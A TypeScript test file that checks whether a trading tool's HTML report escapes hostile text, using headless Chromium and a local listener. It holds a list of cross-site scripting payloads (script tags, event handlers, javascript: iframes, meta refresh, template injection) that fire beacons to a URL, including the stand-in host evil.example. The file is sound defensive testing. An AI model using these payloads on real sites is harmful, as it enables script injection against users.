import { execFile, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { RunRecord } from '../../src/core/model/run-record.js';
import { renderHtml } from '../../src/core/report/html.js';
import { aRunRecord } from '../helpers/a-run-record.js';

const browser = ['chromium', 'chromium-browser', 'google-chrome'].find(
  (name) => spawnSync(name, ['--version']).status === 0,
);
if (browser === undefined) console.log('skipped: a report in a browser (chromium is not installed)');

/** What runs marks the page and asks for something from outside. */
const mark = (url: string): string =>
  `document.documentElement.setAttribute('data-pwned',1);new Image().src='${url}/js'`;

/** Ways in which text became code in other programs. */
const corpus = (url: string): readonly string[] => [
  `<script>${mark(url)}</script>`,
  `"><script>${mark(url)}</script>`,
  `'><script>${mark(url)}</script>`,
  `</script><script>${mark(url)}</script>`,
  `</style><script>${mark(url)}</script>`,
  `</title></svg></textarea><script>${mark(url)}</script>`,
  `--><script>${mark(url)}</script><!--`,
  `]]><script>${mark(url)}</script>`,
  `<img src=x onerror="${mark(url)}">`,
  `<img src="${url}/img">`,
  `" onmouseover="${mark(url)}" autofocus onfocus="${mark(url)}" x="`,
  `' onload='${mark(url)}'`,
  `<svg onload="${mark(url)}">`,
  `<svg><script href="${url}/svg"/></svg>`,
  `<body onload="${mark(url)}">`,
  `<iframe src="javascript:${mark(url)}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${mark(url)}&lt;/script&gt;"></iframe>`,
  `<link rel=stylesheet href="${url}/css">`,
  `<meta http-equiv=refresh content="0;url=${url}/meta">`,
  `<base href="${url}/">`,
  `<object data="${url}/object"></object>`,
  `<form action="${url}/form"><input autofocus onfocus="${mark(url)}"></form>`,
  `<style>@import url("${url}/import")</style>`,
  `\u0000<scr\u0000ipt>${mark(url)}</script>`,
  `＜script＞${mark(url)}＜/script＞`,
  `&lt;script&gt;${mark(url)}&lt;/script&gt;`,
  `\${${mark(url)}}`,
  `{{constructor.constructor("${mark(url)}")()}}`,
];

/** A run in which every text is one of these. */
function hostileRecord(text: string): RunRecord {
  const base = aRunRecord();
  const run = { ...base.run, id: text, strategy: text, params: { [text]: text }, instruments: [text], timeframe: text };
  return {
    ...base,
    run: { ...run, dataHash: text, configHash: text, codeVersion: text, costs: text },
    reasons: { 'metrics.sqn': text },
    warnings: [text],
    refusals: { [text]: 3 },
    open: base.open.map((each) => ({ ...each, instrument: text })),
    trades: base.trades
      .slice(0, 20)
      .map((each) => ({ ...each, instrument: text, entryReason: text, exitReason: text })),
    exposure: { time: base.exposure.time, currencies: { [text]: base.exposure.currencies['AUD'] ?? [] } },
    ...(base.benchmark ? { benchmark: { ...base.benchmark, name: text } } : {}),
  };
}

describe.skipIf(browser === undefined)('a report of hostile texts in a browser', () => {
  const folder = mkdtempSync(join(tmpdir(), 'fxtrade-page-'));
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end('');
  });
  let url = '';

  beforeAll(async () => {
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });

  afterAll(() => {
    server.closeAllConnections();
    server.close();
    rmSync(folder, { recursive: true, force: true });
  });

  beforeEach(() => {
    asked.length = 0;
  });

  /** The page as it stands when its scripts have run. */
  function opened(text: string): Promise<string> {
    const path = join(folder, 'page.html');
    writeFileSync(path, text);
    const profile = `--user-data-dir=${join(folder, 'profile')}`;
    const quiet = [
      '--headless',
      '--disable-gpu',
      '--no-sandbox',
      '--no-first-run',
      '--disable-background-networking',
      profile,
    ];
    const args = [...quiet, '--virtual-time-budget=2000', '--dump-dom', pathToFileURL(path).href];
    return new Promise((done, fail) => {
      execFile(browser ?? '', args, { maxBuffer: 1 << 27, timeout: 60_000 }, (error, stdout) => {
        if (error === null) done(stdout);
        else fail(error);
      });
    });
  }

  it('is marked and asks outside when nothing is escaped: the test can fail', async () => {
    const dom = await opened(`<!doctype html><html><body>${corpus(url).join('\n')}</body></html>`);
    expect(dom).toMatch(/<html[^>]* data-pwned=/);
    expect(asked.length).toBeGreaterThan(0);
  }, 90_000);

  it('runs none of them and asks for nothing', async () => {
    const page = renderHtml(hostileRecord(corpus(url).join(' ')));
    const dom = await opened(page);
    expect(dom.length).toBeGreaterThan(10_000);
    expect(dom).not.toMatch(/<html[^>]* data-pwned=/);
    expect(asked).toEqual([]);
  }, 90_000);

  it('runs none of them either when escaping fails: the policy of the page forbids it', async () => {
    const page = renderHtml(aRunRecord());
    const broken = page.replace('</body>', `${corpus(url).join('\n')}</body>`);
    expect(broken).not.toBe(page);
    const dom = await opened(broken);
    expect(dom).not.toMatch(/<html[^>]* data-pwned=/);
    // A policy in a page cannot forbid that the page itself moves on; that is what the escaping is for.
    expect(asked.filter((one) => !one.startsWith('/meta'))).toEqual([]);
  }, 90_000);
});

it('every text of a run is escaped, each kind of attack alone', () => {
  for (const text of corpus('http://evil.example')) {
    const page = renderHtml(hostileRecord(text));
    expect(page.match(/<script/g)).toHaveLength(1);
    expect(page).not.toMatch(/<(img|iframe|object|link|base|form|input)\b/);
    expect(page.match(/<meta[^>]*http-equiv="[^"]*"/g)).toHaveLength(1);
  }
});
